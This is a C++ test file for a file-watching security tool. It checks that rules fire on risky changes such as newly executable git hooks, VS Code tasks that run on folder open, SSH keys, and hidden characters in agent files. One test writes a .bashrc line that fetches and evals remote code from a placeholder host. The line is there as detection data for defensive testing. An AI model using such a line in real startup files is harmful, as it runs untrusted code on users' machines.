// The rule pack through the live watcher: change words reach the rules (a hook that gains the
// executable bit, a touch that changes only attributes), an editor's save-by-rename gives one finding
// per rule, and the watcher finds on the pack's samples exactly what an audit finds.

#include "LiveWatcher.h"
#include "RuleCases.h"

#include <algorithm>
#include <gtest/gtest.h>
#include <set>

namespace fs = std::filesystem;
using namespace tw::test;

namespace {

bool hasWord(const Event& e, const std::string& word)
{
    return std::find(e.types.begin(), e.types.end(), word) != e.types.end();
}

class RulesLive : public ::testing::Test
{
protected:
    void SetUp() override
    {
        useConfigHome(m_config.path());
        m_watcher = std::make_unique<LiveWatcher>(m_config.path());
        m_watcher->watch(m_tree.path());
        ASSERT_TRUE(m_watcher->sync(m_tree.path())) << m_watcher->errors();
    }
    void TearDown() override { m_watcher.reset(); }

    // Everything written before has been evaluated once a later probe comes back.
    void settle() { ASSERT_TRUE(m_watcher->sync(m_tree.path())) << m_watcher->errors(); }

    TempDir m_config;
    TempDir m_tree;
    std::unique_ptr<LiveWatcher> m_watcher;
};

TEST_F(RulesLive, HookGainingTheExecutableBitIsReported)
{
    const fs::path hook = m_tree / ".git" / "hooks" / "pre-commit";
    fs::create_directories(hook.parent_path());
    writeFile(hook, "#!/bin/sh\nnpx lint-staged\n");
    settle();
    EXPECT_TRUE(m_watcher->eventsFor(hook, "git_hook_added").empty()) << "git ignores a hook it cannot run";

    fs::permissions(hook, fs::perms::owner_exec, fs::perm_options::add);
    ASSERT_TRUE(m_watcher->waitFor(hook, "git_hook_added")) << m_watcher->errors();
    const auto found = m_watcher->eventsFor(hook, "git_hook_added");
    EXPECT_EQ(found[0].severity, "high");
    EXPECT_TRUE(hasWord(found[0], "attributes"));
}

TEST_F(RulesLive, EditorSaveByRenameGivesOneFinding)
{
    const fs::path tasks = m_tree / ".vscode" / "tasks.json";
    fs::create_directories(tasks.parent_path());
    const std::string text =
        R"({ "version": "2.0.0", "tasks": [{ "label": "sync", "type": "shell", "command": "./tools/sync.sh",
        "runOptions": { "runOn": "folderOpen" } }] })";
    writeFile(tasks.string() + ".tmp~", text);
    fs::rename(tasks.string() + ".tmp~", tasks);
    ASSERT_TRUE(m_watcher->waitFor(tasks, "vscode_task_runs_on_open")) << m_watcher->errors();
    settle();
    const auto found = m_watcher->eventsFor(tasks, "vscode_task_runs_on_open");
    EXPECT_EQ(found.size(), 1u);
    EXPECT_EQ(found[0].severity, "high");
}

// chmod 600 and touch are routine for these files; a change of their content is not.
TEST_F(RulesLive, AttributeOnlyChangesOfKeysAndStartupFilesStayQuiet)
{
    const fs::path keys = m_tree / ".ssh" / "authorized_keys";
    const fs::path bashrc = m_tree / ".bashrc";
    fs::create_directories(keys.parent_path());
    writeFile(
        keys,
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv dev@laptop\n");
    writeFile(bashrc, "alias ll='ls -la'\n");
    ASSERT_TRUE(m_watcher->waitFor(keys, "ssh_authorized_key_added")) << m_watcher->errors();
    ASSERT_TRUE(m_watcher->waitFor(bashrc, "shell_startup_file_changed")) << m_watcher->errors();
    settle();
    const auto keysBefore = m_watcher->eventsFor(keys, "ssh_authorized_key_added").size();
    const auto bashrcBefore = m_watcher->eventsFor(bashrc, "shell_startup_file_changed").size();

    fs::permissions(keys, fs::perms::owner_read | fs::perms::owner_write);
    fs::permissions(bashrc, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
    settle();
    EXPECT_EQ(m_watcher->eventsFor(keys, "ssh_authorized_key_added").size(), keysBefore);
    EXPECT_EQ(m_watcher->eventsFor(bashrc, "shell_startup_file_changed").size(), bashrcBefore);

    writeFile(bashrc, "alias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n");
    ASSERT_TRUE(m_watcher->waitFor(bashrc, "shell_startup_runs_payload")) << m_watcher->errors();
    const auto found = m_watcher->eventsFor(bashrc, "shell_startup_runs_payload");
    EXPECT_EQ(found[0].severity, "critical");
    EXPECT_TRUE(hasWord(found[0], "modified"));
}

TEST_F(RulesLive, HiddenTagCharactersInANewAgentFile)
{
    const fs::path agents = m_tree / "AGENTS.md";
    fs::copy_file(testDataDir() / "rules" / "samples" / "agents" / "AGENTS-tags.md", agents);
    ASSERT_TRUE(m_watcher->waitFor(agents, "agent_rules_hidden_tag_characters")) << m_watcher->errors();
    EXPECT_EQ(m_watcher->eventsFor(agents, "agent_rules_hidden_tag_characters")[0].severity, "critical");
}

// "path rule (severity)" for each finding, the probe's left out.
std::set<std::string> findings(const std::vector<Event>& events)
{
    std::set<std::string> out;
    for (const auto& e : events)
        if (e.rule != "live_probe")
            out.insert(e.path + " " + e.rule + " (" + e.severity + ")");
    return out;
}

// The entries of `from` that `without` lacks, one per line, the first twenty of them.
std::string lines(const std::set<std::string>& from, const std::set<std::string>& without)
{
    std::string s;
    int n = 0;
    for (const auto& f : from)
        if (!without.count(f) && n++ < 20)
            s += "  " + f + "\n";
    return n > 20 ? s + "  ... " + std::to_string(n - 20) + " more\n" : s;
}

// The watcher compiles the whole pack into one set and keeps a match only inside its own file's scope;
// an audit compiles a set per scope. Both must find the same on every sample of the pack.
TEST(RulesModes, WatcherFindsWhatAnAuditFinds)
{
    TempDir config;
    TempDir tree;
    TempDir staging;
    useConfigHome(config.path());
    // The pack's conditions check paths themselves; this file's rules rely on its scope alone.
    writeUserRule(config.path(), "scoped.yar",
                  "// twwatch-scope: package.json */.git/hooks/*\n"
                  "rule user_scoped { meta: severity = \"high\" condition: true }\n"
                  "rule user_scoped_refused { condition: true }\n");
    // The folders are there before the watcher starts, and each sample arrives whole by a rename, so
    // the watcher never evaluates a half-copied file.
    for (const auto& c : ruleCases())
        fs::create_directories((tree / c.name / c.destination).parent_path());
    LiveWatcher watcher(config.path());
    watcher.watch(tree.path());
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.errors();
    for (const auto& c : ruleCases()) {
        plantSample(c, staging / c.name);
        fs::rename(staging / c.name, tree / c.name / c.destination);
    }

    const ScanResult audit = runTwwatch({"--scan", tree.path().string()});
    ASSERT_EQ(audit.process.exitCode, 0) << audit.process.err;
    const std::set<std::string> expected = findings(audit.events);
    const auto attacks =
        std::count_if(ruleCases().begin(), ruleCases().end(), [](auto& c) { return c.fires; });
    ASSERT_GE(expected.size(), static_cast<std::size_t>(attacks)) << lines(expected, {});
    ASSERT_TRUE(std::any_of(expected.begin(), expected.end(),
                            [](auto& f) { return f.ends_with("package.json user_scoped (high)"); }));

    waitUntil([&] { return lines(expected, findings(watcher.events())).empty(); }, std::chrono::seconds(40));
    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.errors(); // a late extra finding would be in by now
    const std::set<std::string> live = findings(watcher.events());
    EXPECT_EQ(lines(expected, live), "") << "found by the audit only";
    EXPECT_EQ(lines(live, expected), "") << "found by the watcher only";
}

} // namespace
